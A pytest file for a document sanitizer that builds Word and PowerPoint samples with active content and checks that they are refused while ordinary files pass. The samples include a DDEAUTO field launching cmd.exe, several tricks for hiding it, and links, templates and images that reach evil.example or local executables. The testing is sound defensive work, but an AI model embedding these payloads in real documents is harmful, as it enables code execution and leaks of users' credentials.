"""What a Word or PowerPoint file may hold: whatever address, encoding or spelling it has, it is judged by what it says."""

import zipfile
from io import BytesIO

import pytest

from agenda.exceptions import DocumentRefused
from agenda.services.office_files import clean_office

from .office import RELS, R, W, office, relations

STRICT_W = "http://purl.oclc.org/ooxml/wordprocessingml/main"
STRICT_R = "http://purl.oclc.org/ooxml/officeDocument/relationships"
PACKAGE_R = "http://schemas.openxmlformats.org/package/2006/relationships"
MC = "http://schemas.openxmlformats.org/markup-compatibility/2006"
MICROSOFT_R = "http://schemas.microsoft.com/office/2018/08/relationships"


def document(inner: str, namespace: str = W) -> str:
    return (
        f'<w:document xmlns:w="{namespace}" xmlns:mc="{MC}"><w:body><w:p>{inner}</w:p></w:body></w:document>'
    )


def char(kind: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def text(words: str, name: str = "instrText") -> str:
    return f"<w:r><w:{name}>{words}</w:{name}></w:r>"


def field(*inner: str) -> str:
    return char("begin") + "".join(inner) + char("separate") + "<w:r><w:t>1</w:t></w:r>" + char("end")


def word(inner: str, namespace: str = W) -> bytes:
    return office(main=document(inner, namespace))


def related(kind: str, target: str = "part.xml", mode: str = "", *, base: str = R) -> bytes:
    """A Word file whose document refers to something."""
    rows = relations((kind, target, mode)).replace(R, base)
    return office(parts={"word/_rels/document.xml.rels": rows, "word/part.xml": "<x/>"})


def slide(action: str, *, encoding: str = "utf-8") -> bytes:
    part = (
        f'<?xml version="1.0" encoding="{encoding}"?><p:sld xmlns:p="p" xmlns:a="a">'
        f'<a:hlinkClick action="{action}"/></p:sld>'
    )
    return office("pptx", parts={"ppt/slides/slide1.xml": part.encode(encoding)})


def picture(inner: str = "", attributes: str = "") -> bytes:
    return office(
        parts={"word/media/a.svg": f'<svg xmlns="http://www.w3.org/2000/svg" {attributes}>{inner}</svg>'}
    )


def branches(choice: str, fallback: str = "") -> str:
    return (
        f'<mc:AlternateContent><mc:Choice Requires="w14">{choice}</mc:Choice>'
        f"<mc:Fallback>{fallback}</mc:Fallback></mc:AlternateContent>"
    )


DDE = 'DDEAUTO c:\\\\windows\\\\cmd.exe "/k"'
ACTIVE = {
    # Fields
    "DDE in the Strict namespace": word(field(text(DDE)), STRICT_W),
    "DDE in a simple field of the Strict namespace": word(f"<w:fldSimple w:instr='{DDE}'/>", STRICT_W),
    "DDE by references": word(field(text("&#68;&#x44;E c:"))),
    "DDE in UTF-16": office(
        parts={
            "word/header1.xml": f'<?xml version="1.0" encoding="utf-16"?>{document(field(text(DDE)))}'.encode(
                "utf-16"
            )
        }
    ),
    "DDE in pieces": word(field(text("D"), text("DE"), text("AUTO x"))),
    "DDE inside another field": word(field(text("PAGE "), field(text(DDE)))),
    "DDE in a deleted piece": word(field(text(DDE, "delInstrText"))),
    "DDE once a change is accepted": word(
        field(f"<w:del>{text('PAGE ', 'delInstrText')}</w:del>", text("DD"), f"<w:ins>{text('E')}</w:ins>")
    ),
    "DDE once a change is refused": word(
        field(f"<w:ins>{text('PAGE ')}</w:ins>", text("D"), f"<w:ins>{text('X')}</w:ins>", text("DE"))
    ),
    "DDE split by a comment": word(field(text("<!--PAGE -->D<!--X-->DE"))),
    "DDE without an end": word(char("begin") + text(DDE)),
    "a field's text outside of it": word(text("PAGE")),
    "an end without a begin": word(char("end")),
    "a piece that only some readers see": word(field(branches(text("PAGE ")), text("D"))),
    "DDE in what some readers see": word(branches(field(text(DDE)))),
    "a field of no known name": word(field(text("PRIVATE x"))),
    "a field whose name is made by another": word(field(field(text("QUOTE 1")), text(" "))),
    "a button for a macro": word(field(text("MACROBUTTON x y"))),
    "a picture from elsewhere": word(field(text('INCLUDEPICTURE "http://evil.example/a.png"'))),
    "a link to a share": word(field(text('HYPERLINK "\\\\\\\\evil.example\\\\a"'))),
    "a link to a drive": word(field(text('HYPERLINK "c:\\other.exe"'))),
    "a link to a file": word(field(text('HYPERLINK \\o "x" "file:///c:/a.exe"'))),
    # Elements
    "another document's text": word('<w:altChunk r:id="r0" xmlns:r="r"/>'),
    "another document's text, Strict": word('<w:altChunk r:id="r0" xmlns:r="r"/>', STRICT_W),
    "a template": office(
        parts={"word/settings.xml": f'<w:settings xmlns:w="{STRICT_W}"><w:attachedTemplate/></w:settings>'}
    ),
    "a mail merge": office(
        parts={
            "word/settings.xml": f'<w:settings xmlns:w="{W}"><w:mailMerge><w:query w:val="SELECT"/></w:mailMerge></w:settings>'
        }
    ),
    "an object": word('<w:object><o:OLEObject xmlns:o="o" Type="Link"/></w:object>'),
    "a picture from elsewhere in VML": word('<v:imagedata xmlns:v="v" src="http://evil.example/a.png"/>'),
    "a link to a share in VML": word('<v:shape xmlns:v="v" href="\\\\evil.example\\a"/>'),
    "a script in a drawing": picture("<script/>"),
    "a picture from elsewhere in a drawing": picture('<image href="http://evil.example/a.png"/>'),
    "a handler in a drawing": picture("", 'ONLOAD="x"'),
    # References
    **{
        f"{kind} under {base}": related(kind, base=base)
        for base in (R, STRICT_R, PACKAGE_R, MICROSOFT_R)
        for kind in ("aFChunk", "attachedTemplate", "oleObject", "subDocument", "mailMergeSource", "control")
    },
    "a template outside, Strict": related(
        "attachedTemplate", "https://evil.example/t", "External", base=STRICT_R
    ),
    "a picture outside": related("image", "https://evil.example/a.png", "External"),
    "a share that is said to be inside": related("image", "\\\\evil.example\\a.png"),
    "an address that is said to be inside": related("image", "https://evil.example/a.png"),
    "a link to a program": related("hyperlink", "file:///c:/a.exe", "External"),
    "an image of an unknown authority": related("image", base="http://evil.example/relationships"),
    "the ribbon": related("ui/extensibility", base="http://schemas.microsoft.com/office/2006/relationships"),
    "references of another kind": office(
        parts={
            "word/_rels/document.xml.rels": f'<Relationships xmlns="{RELS}"><x:Relationship xmlns:x="x"/></Relationships>'
        }
    ),
}
ACTIONS = {
    "a program": slide("ppaction://program"),
    "a program in UTF-16": slide("ppaction://program", encoding="utf-16"),
    "a program by references": slide("&#112;paction:&#x2f;/program"),
    "a program behind a blank": slide(" ppaction://program"),
    "a program in capitals": slide("PPAction://Program"),
    "a macro": slide("ppaction://macro?name=x"),
    "an object": slide("ppaction://ole?verb=0"),
    "another presentation": slide("ppaction://hlinkpres?slideindex=1"),
    "a file": slide("ppaction://hlinkfile"),
    "what is not known": slide("ppaction://new"),
}


@pytest.mark.parametrize("content", ACTIVE.values(), ids=ACTIVE)
def test_a_word_file_that_can_act_is_refused(content):
    with pytest.raises(DocumentRefused) as refused:
        clean_office(content, "docx")
    assert refused.value.code == "active"


@pytest.mark.parametrize("content", ACTIONS.values(), ids=ACTIONS)
def test_a_presentation_that_can_act_is_refused(content):
    with pytest.raises(DocumentRefused) as refused:
        clean_office(content, "pptx")
    assert refused.value.code == "active"


GOOD = {
    "page numbers": word(field(text(" PAGE "), text("\\* MERGEFORMAT "))),
    "page numbers, Strict": word(field(text(" PAGE ")) + "<w:fldSimple w:instr=' NUMPAGES '/>", STRICT_W),
    "a table of contents": word(
        field(text(' TOC \\o "1-3" \\h \\z \\u '), field(text(" HYPERLINK \\l _Toc1 ")))
    ),
    "a formula with a field inside": word(field(text(" = "), field(text("PAGE")), text(" + 1"))),
    "a link in a field": word(field(text(' HYPERLINK "https://rcm.example/" \\o "The site"'))),
    "a text box for some readers": word(
        field(branches(field(text("PAGE")), field(text("PAGE"))), text(" PAGE "))
    ),
    "a deleted field": word(
        f"<w:del>{char('begin')}{text('REF a', 'delInstrText')}{char('end')}</w:del><w:ins>{field(text('REF b'))}</w:ins>"
    ),
    "a drawing that points into itself": picture(
        '<use href="#a"/><image href="data:image/png;base64,AAAA"/>'
    ),
    "a link in VML": word('<v:shape xmlns:v="v" href="https://rcm.example/"/>'),
    **{
        f"{kind} of a document": related(kind) for kind in ("image", "styles", "header", "chart", "customXml")
    },
    "styles, Strict": related("styles", base=STRICT_R),
    "comments of a newer year": related("commentsExtensible", base=MICROSOFT_R),
    "a link": related("hyperlink", "mailto:somebody@rcm.example", "External", base=STRICT_R),
    "a printer's settings, which are left out": related("printerSettings", "printerSettings1.bin"),
}


@pytest.mark.parametrize("content", GOOD.values(), ids=GOOD)
def test_what_word_writes_every_day_is_taken(content):
    with zipfile.ZipFile(BytesIO(clean_office(content, "docx"))) as archive:
        assert "word/document.xml" in archive.namelist()


@pytest.mark.parametrize("action", ["hlinkshowjump?jump=nextslide", "hlinksldjump", "noaction", "media"])
def test_jumps_within_a_presentation_are_taken(action):
    assert clean_office(slide(f"ppaction://{action}"), "pptx")


def test_a_protected_archive_is_told_to_be_saved_without_protection():
    plain = office()
    entry = plain.index(b"PK\x01\x02") + 8  # the flags of its first entry in the directory at the end
    with pytest.raises(DocumentRefused) as caught:
        clean_office(plain[:entry] + b"\x01" + plain[entry + 1 :], "docx")
    assert "password" in str(caught.value.message)


def test_every_reader_gets_what_was_judged():
    """No encoding, comment or instruction of the file that came is left."""
    part = (
        '<?xml version="1.0" encoding="utf-16"?><?run x?><!--remark--><a:x xmlns:a="a">&#80;age Núñez</a:x>'
    )
    content = office(parts={"word/header1.xml": part.encode("utf-16")})
    with zipfile.ZipFile(BytesIO(clean_office(content, "docx"))) as archive:
        written = archive.read("word/header1.xml").decode()
    assert written.split("\n")[1] == '<a:x xmlns:a="a">Page Núñez</a:x>'
